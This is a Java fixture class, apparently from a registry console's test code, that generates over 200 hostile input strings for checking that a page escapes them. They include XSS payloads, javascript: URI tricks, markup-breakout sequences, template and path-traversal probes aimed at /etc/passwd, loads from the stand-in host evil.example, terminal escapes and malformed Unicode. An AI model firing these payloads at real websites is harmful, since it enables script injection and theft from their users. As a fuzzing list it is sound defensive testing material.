package dev.berth.registry.console;

import java.util.ArrayList;
import java.util.List;

/** Texts that would be something else on a page that is careless. */
public final class HostileTexts {
    private static final List<String> SCRIPTS =
            List.of("alert(1)", "fetch(1)", "location=1", "document.title=1", "ran=1");

    private static final List<String> FORMS = List.of(
            "<script>%s</script>",
            "</script><script>%s</script>",
            "<SCRIPT SRC=//evil.example/x></SCRIPT>%s",
            "<img src=x onerror=%s>",
            "\"><img src=x onerror=%s>",
            "'><svg onload=%s>",
            "\" autofocus onfocus=%s x=\"",
            "' autofocus onfocus=%s x='",
            "` onmouseover=%s `",
            "javascript:%s",
            "JaVaScRiPt:%s",
            "java\tscript:%s",
            "java\nscript:%s",
            "\u0001javascript:%s",
            "data:text/html,<script>%s</script>",
            "vbscript:%s",
            "https://user:secret@evil.example/%s",
            "//evil.example/%s",
            "\\\\evil.example\\%s",
            "<iframe srcdoc='<script>%s</script>'></iframe>",
            "<a href=javascript:%s>x</a>",
            "<math><mtext></p><img src onerror=%s>",
            "<style>@import '//evil.example/%s'</style>",
            "<base href=//evil.example/>%s",
            "<meta http-equiv=refresh content='0;url=javascript:%s'>",
            "<form action=//evil.example><input name=q value=%s>",
            "<!--%s-->",
            "--><script>%s</script><!--",
            "]]><script>%s</script>",
            "<![CDATA[<script>%s</script>]]>",
            "</title><script>%s</script>",
            "</textarea><script>%s</script>",
            "</style><script>%s</script>",
            "</bdi></td></table><script>%s</script>",
            "&lt;script&gt;%s&lt;/script&gt;",
            "&#60;script&#62;%s",
            "&amp;quot;%s",
            "${%s}",
            "{{%s}}",
            "<%%= %s %%>",
            "../../../../etc/passwd?%s",
            "..%%2f..%%2f%s",
            "\u202e%s\u202c",
            "\u2066\u2067%s\u2069");

    private HostileTexts() {}

    /** Returns more than 200 of them. */
    public static List<String> all() {
        List<String> texts = new ArrayList<>();
        for (String form : FORMS) {
            for (String script : SCRIPTS) {
                texts.add(String.format(form, script));
            }
        }
        texts.add("\u001b[2J\u001b]0;owned\u0007");
        texts.add("\u0000\u0008\u007f\u009b31m");
        texts.add("\ud800 half a pair \udc00");
        texts.add("\ufeff\ufffe\uffff");
        texts.add("\u2028\u2029");
        texts.add("zalgo\u0300\u0301\u0302\u0303".repeat(50));
        return texts;
    }
}
